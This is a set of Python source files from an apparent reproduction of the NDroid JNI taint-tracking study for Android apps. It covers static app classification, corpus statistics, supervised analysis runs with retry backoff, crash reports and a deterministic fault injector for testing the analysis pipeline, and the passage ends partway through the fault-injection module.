                 "library_archs", "embedded_dex", "manifest_flags",
                 "declared_native_classes")

    def __init__(self, package: str, category: str,
                 dex_strings: Tuple[str, ...] = (),
                 native_libraries: Tuple[str, ...] = (),
                 library_archs: Tuple[str, ...] = ("armeabi",),
                 embedded_dex: Tuple[EmbeddedDexInfo, ...] = (),
                 manifest_flags: Tuple[str, ...] = (),
                 declared_native_classes: Tuple[str, ...] = ()) -> None:
        self.package = package
        self.category = category
        self.dex_strings = dex_strings
        self.native_libraries = native_libraries
        self.library_archs = library_archs
        self.embedded_dex = embedded_dex
        self.manifest_flags = manifest_flags
        self.declared_native_classes = declared_native_classes

    # -- the probes a static scanner runs ---------------------------------------

    def calls_load(self) -> bool:
        """Does the main dex invoke System.load()/System.loadLibrary()?"""
        return any(s.startswith(LOAD_STRING) for s in self.dex_strings)

    def has_native_libraries(self) -> bool:
        return bool(self.native_libraries)

    def is_pure_native(self) -> bool:
        return NATIVE_ACTIVITY_STRING in self.manifest_flags

    def has_loadable_embedded_dex(self) -> bool:
        return any(dex.calls_load() for dex in self.embedded_dex)

    def uses_admob_native_classes(self) -> bool:
        return any(cls in ADMOB_CLASSES
                   for cls in self.declared_native_classes)
