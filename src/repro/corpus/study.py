"""The static-analysis pipeline of Section III.

``analyze_corpus`` classifies apps into Types I/II/III from record
contents alone (load-call strings, bundled libraries, embedded dex,
manifest flags) and computes every statistic the paper reports: the
category distribution of Type I apps (Fig. 2), the share of Type I apps
without libraries and the AdMob fraction among them, the
loadable-embedded-dex count among Type II, the Type III game/entertainment
split, and the most-bundled library ranking.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Tuple

from repro.corpus.appmodel import AppRecord

# The Section III.A manual analysis of the 20 most popular libraries:
# "Most of the libraries are from the famous game engine companies...
# a large portion of libraries relevant to video or audio processing.
# Other libraries ... are originally included in NDK or the system."
LIBRARY_KINDS: Dict[str, str] = {
    "libunity.so": "game-engine", "libmono.so": "game-engine",
    "libgdx.so": "game-engine", "libbox2d.so": "game-engine",
    "libcocos2dcpp.so": "game-engine", "libandroidgl20.so": "game-engine",
    "liblua.so": "game-engine",
    "libffmpeg.so": "media", "libvlcjni.so": "media",
    "libmp3lame.so": "media", "libopenal.so": "media",
    "libstagefright_froyo.so": "media",
    "libstlport_shared.so": "ndk-system", "libcore.so": "ndk-system",
    "libgnustl_shared.so": "ndk-system", "libcrypto.so": "ndk-system",
    "libsqliteX.so": "ndk-system",
    "libprotect.so": "packer", "libsecexe.so": "packer",
    "libtersafe.so": "packer",
}


@dataclass
class StudyReport:
    """Everything Section III reports, computed by :func:`analyze_corpus`."""
    total_apps: int = 0
    type1: List[AppRecord] = field(default_factory=list)
    type2: List[AppRecord] = field(default_factory=list)
    type3: List[AppRecord] = field(default_factory=list)

    # Derived statistics.
    type1_without_libs: int = 0
    type1_without_libs_admob: int = 0
    type2_loadable: int = 0
    type3_games: int = 0
    type1_category_shares: Dict[str, float] = field(default_factory=dict)
    library_popularity: List[Tuple[str, int]] = field(default_factory=list)

    def library_kind_distribution(self, top: int = 20) -> Dict[str, int]:
        """Classify the ``top`` most-bundled libraries (Section III.A)."""
        kinds: Dict[str, int] = {}
        for name, __ in self.library_popularity[:top]:
            kind = LIBRARY_KINDS.get(name, "other")
            kinds[kind] = kinds.get(kind, 0) + 1
        return kinds

    # -- headline numbers ---------------------------------------------------------

    @property
    def jni_app_count(self) -> int:
        return len(self.type1) + len(self.type2) + len(self.type3)

    @property
    def percent_using_jni(self) -> float:
        return 100.0 * self.jni_app_count / self.total_apps

    @property
    def percent_with_native_libraries(self) -> float:
        with_libs = sum(1 for record in
                        self.type1 + self.type2 + self.type3
                        if record.has_native_libraries())
        return 100.0 * with_libs / self.total_apps

    @property
    def admob_share_of_libless_type1(self) -> float:
        if not self.type1_without_libs:
            return 0.0
        return self.type1_without_libs_admob / self.type1_without_libs

    def format_summary(self) -> str:
        lines = [
            f"corpus size:            {self.total_apps:,}",
            f"type I  (call load):    {len(self.type1):,}",
            f"  without libraries:    {self.type1_without_libs:,} "
            f"({100 * self.admob_share_of_libless_type1:.1f}% AdMob)",
            f"type II (libs, no call):{len(self.type2):,}",
            f"  loadable via dex:     {self.type2_loadable:,}",
            f"type III (pure native): {len(self.type3):,} "
            f"({self.type3_games} games)",
            f"apps using JNI:         {self.percent_using_jni:.2f}%",
            "type I category distribution:",
        ]
        for name, share in sorted(self.type1_category_shares.items(),
                                  key=lambda kv: -kv[1]):
            lines.append(f"  {name:<20s} {100 * share:5.1f}%")
        lines.append("top bundled libraries:")
        for name, count in self.library_popularity[:10]:
            lines.append(f"  {name:<24s} {count:,}")
        return "\n".join(lines)


def classify(record: AppRecord) -> str:
    """Type I/II/III/none classification (Section III's definition)."""
    if record.is_pure_native():
        return "III"
    if record.calls_load():
        return "I"
    if record.has_native_libraries():
        return "II"
    return "none"


def analyze_corpus(records: Iterable[AppRecord]) -> StudyReport:
    """Classify every record and accumulate the Section III statistics."""
    report = StudyReport()
    library_counter: Counter = Counter()
    category_counter: Counter = Counter()

    for record in records:
        report.total_apps += 1
        kind = classify(record)
        if kind == "I":
            report.type1.append(record)
            category_counter[record.category] += 1
            if not record.has_native_libraries():
                report.type1_without_libs += 1
                if record.uses_admob_native_classes():
                    report.type1_without_libs_admob += 1
        elif kind == "II":
            report.type2.append(record)
            if record.has_loadable_embedded_dex():
                report.type2_loadable += 1
        elif kind == "III":
            report.type3.append(record)
            if record.category == "Game":
                report.type3_games += 1
        for library in record.native_libraries:
            library_counter[library] += 1

    if report.type1:
        total_type1 = len(report.type1)
        report.type1_category_shares = {
            name: count / total_type1
            for name, count in category_counter.items()
        }
    report.library_popularity = library_counter.most_common()
    return report
