"""NDroid reproduction — tracking information flows through JNI.

A complete Python reproduction of "On Tracking Information Flows through
JNI in Android Applications" (Qian, Luo, Shao, Chan — DSN 2014),
including every substrate the system needs: an ARM/Thumb emulator, a
simulated Linux kernel, a modelled libc, a Dalvik VM with TaintDroid's
taint-carrying structures, the JNI layer, and the analysis systems
themselves.

Quick API tour::

    from repro import AndroidPlatform, NDroid, TaintDroid

    platform = AndroidPlatform()      # a simulated Android device
    NDroid.attach(platform)           # the paper's system (+TaintDroid)
    platform.install(apk)             # an Apk of Dalvik + ARM native code
    platform.run_app(apk)
    print(platform.leaks.summary())   # detected information leaks

See ``DESIGN.md`` for the architecture and ``EXPERIMENTS.md`` for the
paper-vs-measured record.
"""

from repro.core.ndroid import NDroid
from repro.framework.android import AndroidPlatform
from repro.framework.apk import Apk
from repro.taintdroid.system import TaintDroid

__version__ = "1.0.0"

__all__ = ["AndroidPlatform", "Apk", "NDroid", "TaintDroid", "__version__"]
