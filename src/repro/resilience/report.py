"""Structured crash reports for contained analysis failures.

When the supervisor contains a crash it captures everything a human (or
a triage pipeline) needs to understand the dead run without re-executing
it: the CPU register file, the last-N-instructions ring buffer, a memory
map summary, and the native taint state at the moment of death.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.common.errors import EmulationError
from repro.common.taint import TAINT_CLEAR, describe_taint
from repro.cpu.state import REGISTER_NAMES


@dataclass
class CrashReport:
    """Post-mortem of one crashed (or timed-out) analysis attempt."""

    label: str
    error_type: str
    error_message: str
    attempt: int = 1
    # CPU snapshot.
    registers: Dict[str, int] = field(default_factory=dict)
    thumb: bool = False
    instruction_count: int = 0
    # Fault context from an enriched EmulationError, when available.
    fault_pc: Optional[int] = None
    fault_mode: Optional[str] = None
    fault_word: Optional[int] = None
    # Execution tail (InstructionRingBuffer.snapshot()).
    last_instructions: List[Dict] = field(default_factory=list)
    # /proc/<pid>/maps-style region lines.
    memory_map: List[str] = field(default_factory=list)
    # Native taint state summary.
    taint_summary: Dict[str, object] = field(default_factory=dict)
    # Faults the plan actually fired before death (FiredFault.describe()).
    injected_faults: List[str] = field(default_factory=list)

    @classmethod
    def capture(cls, label: str, error: BaseException, platform=None,
                ndroid=None, ring_buffer=None, attempt: int = 1,
                injected_faults: Optional[List[str]] = None) -> "CrashReport":
        """Snapshot a platform (if one survived) at the point of failure."""
        report = cls(label=label, error_type=type(error).__name__,
                     error_message=str(error), attempt=attempt,
                     injected_faults=list(injected_faults or []))
        if isinstance(error, EmulationError):
            report.fault_pc = error.pc
            report.fault_mode = error.mode
            report.fault_word = error.word
        if platform is not None:
            cpu = platform.emu.cpu
            report.registers = {name: cpu.regs[index]
                                for index, name in enumerate(REGISTER_NAMES)}
            report.thumb = cpu.thumb
            report.instruction_count = platform.emu.instruction_count
            report.memory_map = [region.format()
                                 for region in platform.emu.memory_map]
        if ring_buffer is not None:
            report.last_instructions = ring_buffer.snapshot()
        if ndroid is not None:
            engine = ndroid.taint_engine
            register_taints = {
                REGISTER_NAMES[index]: label
                for index, label in enumerate(engine.shadow_registers)
                if label != TAINT_CLEAR}
            report.taint_summary = {
                "tainted_bytes": engine.tainted_bytes,
                "tainted_registers": register_taints,
                "live_label": describe_taint(engine.live_label()),
                "degraded_events": ndroid.degraded_events,
            }
        return report

    def to_dict(self) -> Dict:
        return {
            "label": self.label,
            "error_type": self.error_type,
            "error_message": self.error_message,
            "attempt": self.attempt,
            "registers": dict(self.registers),
            "thumb": self.thumb,
            "instruction_count": self.instruction_count,
            "fault_pc": self.fault_pc,
            "fault_mode": self.fault_mode,
            "fault_word": self.fault_word,
            "last_instructions": [dict(e) for e in self.last_instructions],
            "memory_map": list(self.memory_map),
            "taint_summary": dict(self.taint_summary),
            "injected_faults": list(self.injected_faults),
        }

    def format(self) -> str:
        """Human-readable report, tombstone style."""
        lines = [
            f"*** crash report: {self.label} (attempt {self.attempt}) ***",
            f"error: {self.error_type}: {self.error_message}",
            f"instructions executed: {self.instruction_count}",
        ]
        if self.injected_faults:
            lines.append("injected faults: " + ", ".join(self.injected_faults))
        if self.registers:
            lines.append("registers:")
            names = list(self.registers)
            for row_start in range(0, len(names), 4):
                row = names[row_start:row_start + 4]
                lines.append("  " + "  ".join(
                    f"{name:>3}={self.registers[name]:08x}" for name in row))
            lines.append(f"  mode={'thumb' if self.thumb else 'arm'}")
        if self.last_instructions:
            lines.append(f"last {len(self.last_instructions)} instructions:")
            for entry in self.last_instructions:
                lines.append(
                    f"  #{entry['index']:<8} {entry['pc']:08x} "
                    f"[{entry['mode']:>5}] {entry['mnemonic']} "
                    f"({entry['kind']})")
        if self.memory_map:
            lines.append("memory map:")
            lines.extend(f"  {line}" for line in self.memory_map)
        if self.taint_summary:
            lines.append("taint state:")
            for key, value in self.taint_summary.items():
                lines.append(f"  {key}: {value}")
        return "\n".join(lines)
