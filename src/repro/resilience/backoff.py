"""One backoff policy for every retry path in the system.

Both retry layers — the :class:`Supervisor`'s in-process transient-fault
retries and the farm scheduler's worker-reclaim requeues — compute their
delays here, so the growth curve and the jitter semantics cannot drift
apart.  Jitter matters at farm scale: a scheduler that reclaims a whole
batch of workers at once (one bad host event) would otherwise requeue
them on the exact same schedule and thunder straight back into the same
contention.

The jitter is *deterministic when the caller wants it to be*: pass an
``rng`` seeded from stable run state (the farm seeds one per
``(job digest, attempt)``) and the same failure history replays the same
delays — which is what makes the chaos harness's recovery runs
reproducible.
"""

from __future__ import annotations

import random
from typing import Optional

DEFAULT_BASE = 0.01
DEFAULT_FACTOR = 2.0


def backoff_delay(attempt: int, base: float = DEFAULT_BASE,
                  factor: float = DEFAULT_FACTOR, jitter: float = 0.0,
                  rng: Optional[random.Random] = None) -> float:
    """Delay before retrying after ``attempt`` failed attempts (1-based).

    The deterministic core is ``base * factor ** (attempt - 1)``; with
    ``jitter`` > 0 the delay is stretched by up to ``jitter`` of itself
    (never shrunk below the core value, so backoff stays monotone in
    expectation and a floor of ``base`` is always respected).
    """
    if attempt < 1:
        raise ValueError(f"attempt must be >= 1, got {attempt}")
    delay = base * (factor ** (attempt - 1))
    if jitter:
        source = rng if rng is not None else random
        delay *= 1.0 + jitter * source.random()
    return delay


def jitter_rng(*key) -> random.Random:
    """A deterministic RNG keyed by stable run state (digest, attempt, …).

    Seeding from the joined string form keeps the stream independent of
    ``PYTHONHASHSEED`` — the same key yields the same jitter in every
    process, which the farm's crash-consistent resume relies on.
    """
    return random.Random(":".join(str(part) for part in key))
