"""Resilience: fault injection, supervised runs, crash reports.

The analysis pipeline's whole value depends on surviving arbitrary
hostile native code (paper Section V/VI).  This package provides the two
halves of that property:

* :mod:`repro.resilience.faults` — a deterministic, seedable adversary
  that injects decode/memory/hook/syscall failures into a run;
* :mod:`repro.resilience.supervisor` — the runtime that contains those
  failures per analysis: watchdog budget, retry-with-backoff for
  transient faults, outcome classification, and structured
  :mod:`crash reports <repro.resilience.report>`.
"""

from repro.resilience.faults import (
    ActiveFaultPlan,
    FaultPlan,
    FaultSpec,
    InjectedHookFault,
    parse_fault_spec,
)
from repro.resilience.report import CrashReport
from repro.resilience.supervisor import (
    OUTCOME_CRASHED,
    OUTCOME_DEGRADED,
    OUTCOME_OK,
    OUTCOME_TIMEOUT,
    AnalysisTimeout,
    RunContext,
    SupervisedResult,
    Supervisor,
)

__all__ = [
    "ActiveFaultPlan",
    "AnalysisTimeout",
    "CrashReport",
    "FaultPlan",
    "FaultSpec",
    "InjectedHookFault",
    "OUTCOME_CRASHED",
    "OUTCOME_DEGRADED",
    "OUTCOME_OK",
    "OUTCOME_TIMEOUT",
    "RunContext",
    "SupervisedResult",
    "Supervisor",
    "parse_fault_spec",
]
