"""Resilience: fault injection, supervised runs, crash reports.

The analysis pipeline's whole value depends on surviving arbitrary
hostile native code (paper Section V/VI).  This package provides the two
halves of that property:

* :mod:`repro.resilience.faults` — a deterministic, seedable adversary
  that injects decode/memory/hook/syscall failures into a run;
* :mod:`repro.resilience.supervisor` — the runtime that contains those
  failures per analysis: watchdog budget, retry-with-backoff for
  transient faults, outcome classification, and structured
  :mod:`crash reports <repro.resilience.report>`.

:mod:`repro.resilience.backoff` is the shared retry-delay policy — the
supervisor's in-process retries and the farm scheduler's worker-reclaim
requeues both draw their exponential-plus-jitter delays from it.
"""

from repro.resilience.backoff import backoff_delay, jitter_rng
from repro.resilience.faults import (
    ActiveFaultPlan,
    FaultPlan,
    FaultSpec,
    InjectedHookFault,
    parse_fault_spec,
)
from repro.resilience.report import CrashReport
from repro.resilience.supervisor import (
    OUTCOME_CRASHED,
    OUTCOME_DEGRADED,
    OUTCOME_OK,
    OUTCOME_TIMEOUT,
    AnalysisTimeout,
    RunContext,
    SupervisedResult,
    Supervisor,
)

__all__ = [
    "ActiveFaultPlan",
    "AnalysisTimeout",
    "CrashReport",
    "FaultPlan",
    "FaultSpec",
    "InjectedHookFault",
    "OUTCOME_CRASHED",
    "OUTCOME_DEGRADED",
    "OUTCOME_OK",
    "OUTCOME_TIMEOUT",
    "RunContext",
    "SupervisedResult",
    "Supervisor",
    "backoff_delay",
    "jitter_rng",
    "parse_fault_spec",
]
