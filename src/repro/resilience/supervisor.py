"""Supervised execution of one analysis run (crash containment).

The supervisor gives an analysis the property the paper's market study
depends on: one hostile app yields a classified outcome and a crash
report, never a dead study.  It provides:

* an **instruction-budget watchdog** — a tracer that aborts runaway
  native code with :class:`AnalysisTimeout`;
* a **retry-with-backoff policy** for transient faults
  (:class:`TransientSyscallFault`): the analysis attempt is re-run from a
  fresh platform after an exponentially growing delay, against the *same*
  fault-plan activation, so consumed transient faults do not re-fire;
* **containment**: any :class:`ReproError` escaping the analysis is
  converted into a :class:`CrashReport` instead of unwinding the caller;
* **outcome classification**: ``ok`` / ``degraded`` (completed, but hooks
  were quarantined and taints over-approximated) / ``crashed`` /
  ``timeout``.

The analysis callable receives a :class:`RunContext` and must call
``ctx.attach(platform)`` right after building its platform, which wires
the watchdog, the crash-report ring buffer, and the fault plan into the
emulator and kernel::

    def analysis(ctx):
        platform = AndroidPlatform()
        ndroid = NDroid.attach(platform)
        ctx.attach(platform)
        ...
        return value

    result = Supervisor(budget=2_000_000).run("my-app", analysis)
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import Any, Callable, List, Optional

from repro.common.errors import ReproError, TransientSyscallFault
from repro.core.instruction_tracer import InstructionRingBuffer
from repro.resilience.backoff import backoff_delay, jitter_rng
from repro.resilience.faults import ActiveFaultPlan, FaultPlan
from repro.resilience.report import CrashReport

OUTCOME_OK = "ok"
OUTCOME_DEGRADED = "degraded"
OUTCOME_CRASHED = "crashed"
OUTCOME_TIMEOUT = "timeout"


class AnalysisTimeout(ReproError):
    """The instruction-budget watchdog fired (runaway native code)."""

    def __init__(self, budget: int, pc: int):
        super().__init__(f"instruction budget of {budget} exhausted "
                         f"@ pc=0x{pc:08x}")
        self.budget = budget
        self.pc = pc


class RunContext:
    """Per-attempt wiring surface handed to the supervised analysis."""

    def __init__(self, budget: Optional[int],
                 active_plan: Optional[ActiveFaultPlan],
                 ring_capacity: int) -> None:
        self.budget = budget
        self.active_plan = active_plan
        self.ring_buffer = InstructionRingBuffer(capacity=ring_capacity)
        self.platform = None

    def attach(self, platform) -> None:
        """Instrument a freshly built platform for this attempt."""
        self.platform = platform
        platform.emu.add_tracer(self.ring_buffer)
        if self.active_plan is not None:
            platform.emu.fault_injector = self.active_plan
            platform.kernel.syscall_fault_hook = self.active_plan.syscall_fault
        if self.budget is not None:
            budget = self.budget

            def watchdog(ir, emu) -> None:
                if emu.instruction_count >= budget:
                    raise AnalysisTimeout(budget, emu.cpu.pc)

            platform.emu.add_tracer(watchdog)

    @property
    def ndroid(self):
        return getattr(self.platform, "ndroid", None)


Analysis = Callable[[RunContext], Any]


@dataclass
class SupervisedResult:
    """Outcome of one supervised analysis (possibly several attempts)."""

    label: str
    status: str
    value: Any = None
    attempts: int = 1
    backoff_delays: List[float] = field(default_factory=list)
    crash_report: Optional[CrashReport] = None
    degraded_events: int = 0
    quarantined_hooks: List[str] = field(default_factory=list)
    injected_faults: List[str] = field(default_factory=list)
    error: Optional[str] = None

    @property
    def completed(self) -> bool:
        return self.status in (OUTCOME_OK, OUTCOME_DEGRADED)

    def describe(self) -> str:
        text = f"{self.label}: {self.status}"
        if self.attempts > 1:
            text += f" (attempt {self.attempts})"
        if self.degraded_events:
            text += f" degraded_events={self.degraded_events}"
        if self.error:
            text += f" [{self.error}]"
        return text


class Supervisor:
    """Runs analyses under a watchdog, retry policy and crash containment."""

    def __init__(self, budget: Optional[int] = 5_000_000,
                 max_retries: int = 3, backoff_base: float = 0.01,
                 backoff_factor: float = 2.0, backoff_jitter: float = 0.0,
                 ring_capacity: int = 32,
                 sleep: Callable[[float], None] = time.sleep,
                 metrics=None) -> None:
        self.budget = budget
        self.max_retries = max_retries
        self.backoff_base = backoff_base
        self.backoff_factor = backoff_factor
        # Jitter stretches each retry delay by up to this fraction of
        # itself (shared semantics with the farm's requeue path — both
        # go through repro.resilience.backoff.backoff_delay).  The RNG
        # is seeded per supervised label, so a given app retries on the
        # same schedule in every process.
        self.backoff_jitter = backoff_jitter
        self.ring_capacity = ring_capacity
        self._sleep = sleep
        # Optional MetricsRegistry: supervised-run outcomes become
        # resilience.* counters (observability layer).
        self.metrics = metrics

    def _count(self, name: str, amount: int = 1) -> None:
        if self.metrics is not None:
            self.metrics.counter(f"resilience.{name}").inc(amount)

    def run(self, label: str, analysis: Analysis,
            plan: Optional[FaultPlan] = None) -> SupervisedResult:
        """Run ``analysis`` to a classified outcome; never raises
        :class:`ReproError`.

        The fault plan is activated once for the whole supervised run:
        a transient fault consumed by attempt N stays consumed, so the
        retry (attempt N+1) reruns the analysis without it and can reach
        the fault-free result.
        """
        active = plan.activate() if plan else None
        delays: List[float] = []
        attempt = 0
        rng = jitter_rng("supervisor", label)
        self._count("runs")
        while True:
            attempt += 1
            ctx = RunContext(self.budget, active, self.ring_capacity)
            try:
                value = analysis(ctx)
            except TransientSyscallFault as error:
                if attempt <= self.max_retries:
                    delay = backoff_delay(attempt, base=self.backoff_base,
                                          factor=self.backoff_factor,
                                          jitter=self.backoff_jitter,
                                          rng=rng)
                    delays.append(delay)
                    self._count("retries")
                    self._rearm(ctx)
                    self._sleep(delay)
                    continue
                return self._failed(OUTCOME_CRASHED, label, error, ctx,
                                    attempt, delays,
                                    note="transient-retries-exhausted")
            except AnalysisTimeout as error:
                self._count("watchdog_fired")
                return self._failed(OUTCOME_TIMEOUT, label, error, ctx,
                                    attempt, delays)
            except ReproError as error:
                return self._failed(OUTCOME_CRASHED, label, error, ctx,
                                    attempt, delays)
            return self._completed(label, value, ctx, attempt, delays, active)

    @staticmethod
    def _rearm(ctx: RunContext) -> None:
        """Re-arm the taint engine's clean-run fast path between attempts.

        Mirror of the farm's between-jobs fix: analyses that reuse a
        cached platform (or share an engine across attempts) would
        otherwise start the retry with ``maybe_tainted`` stuck on from
        the failed attempt, paying instrumented-path cost for a clean
        re-run.  Safe no-op when the attempt never attached a platform.
        """
        ndroid = ctx.ndroid
        engine = getattr(ndroid, "taint_engine", None) if ndroid else None
        if engine is not None:
            engine.rearm_fast_path()

    # -- result assembly ------------------------------------------------------

    @staticmethod
    def _fired(active: Optional[ActiveFaultPlan]) -> List[str]:
        if active is None:
            return []
        return [f.spec.describe() for f in active.fired]

    def _completed(self, label: str, value: Any, ctx: RunContext,
                   attempt: int, delays: List[float],
                   active: Optional[ActiveFaultPlan]) -> SupervisedResult:
        ndroid = ctx.ndroid
        degraded_events = ndroid.degraded_events if ndroid is not None else 0
        quarantined = (sorted(ndroid.quarantined_hooks)
                       if ndroid is not None else [])
        status = OUTCOME_DEGRADED if degraded_events else OUTCOME_OK
        self._count(f"outcome.{status}")
        return SupervisedResult(
            label=label, status=status, value=value, attempts=attempt,
            backoff_delays=list(delays), degraded_events=degraded_events,
            quarantined_hooks=quarantined, injected_faults=self._fired(active))

    def _failed(self, status: str, label: str, error: ReproError,
                ctx: RunContext, attempt: int, delays: List[float],
                note: Optional[str] = None) -> SupervisedResult:
        fired = self._fired(ctx.active_plan)
        report = CrashReport.capture(
            label=label, error=error, platform=ctx.platform, ndroid=ctx.ndroid,
            ring_buffer=ctx.ring_buffer, attempt=attempt,
            injected_faults=fired)
        ndroid = ctx.ndroid
        message = f"{type(error).__name__}: {error}"
        if note:
            message = f"{note}: {message}"
        self._count(f"outcome.{status}")
        return SupervisedResult(
            label=label, status=status, attempts=attempt,
            backoff_delays=list(delays), crash_report=report,
            degraded_events=(ndroid.degraded_events if ndroid else 0),
            quarantined_hooks=(sorted(ndroid.quarantined_hooks)
                               if ndroid else []),
            injected_faults=fired, error=message)
