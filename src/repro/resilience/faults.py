"""Deterministic, seedable fault injection for analysis runs.

The paper's market study (Section VI) survives arbitrary hostile native
code because one misbehaving app cannot take down the analysis pipeline.
This module provides the adversary for testing that property: a
:class:`FaultPlan` describes *what* should fail and *when* (instruction
counts, syscall indices, hook names), and an activated plan plugs into
the emulator's fault-point API (``Emulator.fire_fault_point``) and the
kernel's ``syscall_fault_hook``.

Fault kinds:

* ``decode`` — raise :class:`DecodeError` at an instruction count, as if
  the fetch hit an undecodable/obfuscated word;
* ``memory`` — raise :class:`MemoryError_` at an instruction count, as if
  the code dereferenced a wild pointer;
* ``hook`` — raise :class:`InjectedHookFault` inside a named (or the next
  guarded) analysis hook, exercising graceful degradation;
* ``syscall`` — fail ``write``/``send``/``sendto`` with a transient
  ``EINTR``/``EAGAIN`` or emit a short count (partial write).

Plans are immutable descriptions; :meth:`FaultPlan.activate` returns the
mutable per-run injector so one plan can be re-activated (the supervisor
keeps a single activation across retry attempts: a transient fault that
fired is consumed and the retry runs clean).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple

from repro.common.errors import DecodeError, MemoryError_, ReproError
from repro.kernel.syscalls import SHORT_WRITE_SYSCALLS, Errno

FAULT_KINDS = ("decode", "memory", "hook", "syscall")


class InjectedHookFault(ReproError):
    """A fault injected inside an analysis hook (degradation test double)."""

    def __init__(self, hook_name: str):
        super().__init__(f"injected fault in hook {hook_name!r}")
        self.hook_name = hook_name


@dataclass(frozen=True)
class FaultSpec:
    """One planned fault.

    Attributes:
        kind: one of :data:`FAULT_KINDS`.
        at_instruction: for ``decode``/``memory``/``hook`` — fire at the
            first opportunity once the emulator's instruction count
            reaches this value (``hook`` may also match by name instead).
        hook_name: for ``hook`` — fire inside this specific hook.
        syscall: for ``syscall`` — ``write``/``send``/``sendto``.
        errno_value: for ``syscall`` — ``Errno.EINTR``/``Errno.EAGAIN``;
            mutually exclusive with ``partial_bytes``.
        partial_bytes: for ``syscall`` — emit only this many bytes
            (short count) instead of failing.
        times: how many firings before the spec is exhausted (transient
            faults typically fire once or twice, then the retry runs
            clean).
    """

    kind: str
    at_instruction: Optional[int] = None
    hook_name: Optional[str] = None
    syscall: Optional[str] = None
    errno_value: Optional[int] = None
    partial_bytes: Optional[int] = None
    times: int = 1

    def __post_init__(self) -> None:
        if self.kind not in FAULT_KINDS:
            raise ValueError(f"unknown fault kind {self.kind!r}")
        if self.kind in ("decode", "memory") and self.at_instruction is None:
            raise ValueError(f"{self.kind} fault needs at_instruction")
        if self.kind == "hook" and (self.at_instruction is None
                                    and self.hook_name is None):
            raise ValueError("hook fault needs at_instruction or hook_name")
        if self.kind == "syscall":
            if self.syscall not in SHORT_WRITE_SYSCALLS:
                raise ValueError(
                    f"syscall fault targets one of {SHORT_WRITE_SYSCALLS}, "
                    f"not {self.syscall!r}")
            if (self.errno_value is None) == (self.partial_bytes is None):
                raise ValueError(
                    "syscall fault needs exactly one of errno_value / "
                    "partial_bytes")
        if self.times < 1:
            raise ValueError("times must be >= 1")

    def describe(self) -> str:
        if self.kind == "syscall":
            if self.errno_value is not None:
                what = Errno(self.errno_value).name.lower()
            else:
                what = f"partial:{self.partial_bytes}"
            text = f"{what}:{self.syscall}"
        elif self.kind == "hook" and self.hook_name is not None:
            text = f"hook:{self.hook_name}"
        else:
            text = f"{self.kind}@{self.at_instruction}"
        return text if self.times == 1 else f"{text}*{self.times}"


def parse_fault_spec(text: str) -> FaultSpec:
    """Parse one fault atom of the ``--faults`` mini-language.

    Grammar (atoms are joined with ``,`` at the plan level)::

        decode@N            inject a DecodeError at instruction count N
        memory@N            inject a MemoryError_ at instruction count N
        hook@N              fail the next guarded hook after count N
        hook:NAME           fail hook NAME (e.g. hook:GetStringUTFChars)
        eintr:SYSCALL       fail SYSCALL with EINTR (write/send/sendto)
        eagain:SYSCALL      fail SYSCALL with EAGAIN
        partial:N:SYSCALL   short count: emit only N bytes

    Any atom takes an optional ``*K`` suffix to fire K times.
    """
    text = text.strip()
    times = 1
    if "*" in text:
        text, __, repeat = text.rpartition("*")
        times = int(repeat)
    if text.startswith("hook:"):
        return FaultSpec(kind="hook", hook_name=text[len("hook:"):],
                         times=times)
    if "@" in text:
        kind, __, count = text.partition("@")
        return FaultSpec(kind=kind.strip(), at_instruction=int(count),
                         times=times)
    head, __, rest = text.partition(":")
    if head in ("eintr", "eagain"):
        return FaultSpec(kind="syscall", syscall=rest,
                         errno_value=int(Errno[head.upper()]), times=times)
    if head == "partial":
        count, __, syscall = rest.partition(":")
        return FaultSpec(kind="syscall", syscall=syscall,
                         partial_bytes=int(count), times=times)
    raise ValueError(f"cannot parse fault spec {text!r}")


@dataclass
class FiredFault:
    """Record of one fault firing (for reports and assertions)."""

    spec: FaultSpec
    point: str
    detail: str
    instruction_count: int = 0


class ActiveFaultPlan:
    """The mutable per-run state of a plan: which specs already fired.

    Instances are both the emulator's fault injector (callable with
    ``(point, emu, **context)``) and the kernel's ``syscall_fault_hook``
    provider (via :meth:`syscall_fault`).
    """

    def __init__(self, specs: Sequence[FaultSpec]) -> None:
        self._remaining: Dict[int, int] = {
            index: spec.times for index, spec in enumerate(specs)}
        self.specs = list(specs)
        self.fired: List[FiredFault] = []
        self._instruction_count = 0

    # -- bookkeeping ----------------------------------------------------------

    def _consume(self, index: int) -> None:
        self._remaining[index] -= 1

    def _armed(self, index: int) -> bool:
        return self._remaining[index] > 0

    def _record(self, spec: FaultSpec, point: str, detail: str) -> None:
        self.fired.append(FiredFault(spec=spec, point=point, detail=detail,
                                     instruction_count=self._instruction_count))

    @property
    def exhausted(self) -> bool:
        return all(count == 0 for count in self._remaining.values())

    # -- emulator fault points ------------------------------------------------

    def __call__(self, point: str, emu, **context) -> None:
        if point == "step":
            self._instruction_count = context.get("instruction_count", 0)
            self._on_step(context.get("pc", 0))
        # "decode" and "host" points carry no planned faults today; the
        # instruction-count check on "step" already covers both paths.

    def _on_step(self, pc: int) -> None:
        for index, spec in enumerate(self.specs):
            if spec.kind not in ("decode", "memory"):
                continue
            if not self._armed(index):
                continue
            if self._instruction_count < (spec.at_instruction or 0):
                continue
            self._consume(index)
            self._record(spec, "step", f"pc=0x{pc:08x}")
            if spec.kind == "decode":
                raise DecodeError("injected decode fault", pc=pc,
                                  mode="arm", word=0xFFFF_FFFF)
            raise MemoryError_(pc, "injected memory fault")

    # -- guarded-hook fault point ---------------------------------------------

    def on_hook(self, name: str, instruction_count: int) -> None:
        """Called by the hook guard before a hook body runs; may raise."""
        for index, spec in enumerate(self.specs):
            if spec.kind != "hook" or not self._armed(index):
                continue
            if spec.hook_name is not None:
                if spec.hook_name != name:
                    continue
            elif instruction_count < (spec.at_instruction or 0):
                continue
            self._consume(index)
            self._record(spec, "hook", name)
            raise InjectedHookFault(name)

    # -- kernel syscall fault hook ----------------------------------------------

    def syscall_fault(self, name: str,
                      requested: int) -> Optional[Tuple[str, int]]:
        for index, spec in enumerate(self.specs):
            if spec.kind != "syscall" or spec.syscall != name:
                continue
            if not self._armed(index):
                continue
            self._consume(index)
            if spec.errno_value is not None:
                self._record(spec, "syscall",
                             f"{name} -> {Errno(spec.errno_value).name}")
                return ("errno", spec.errno_value)
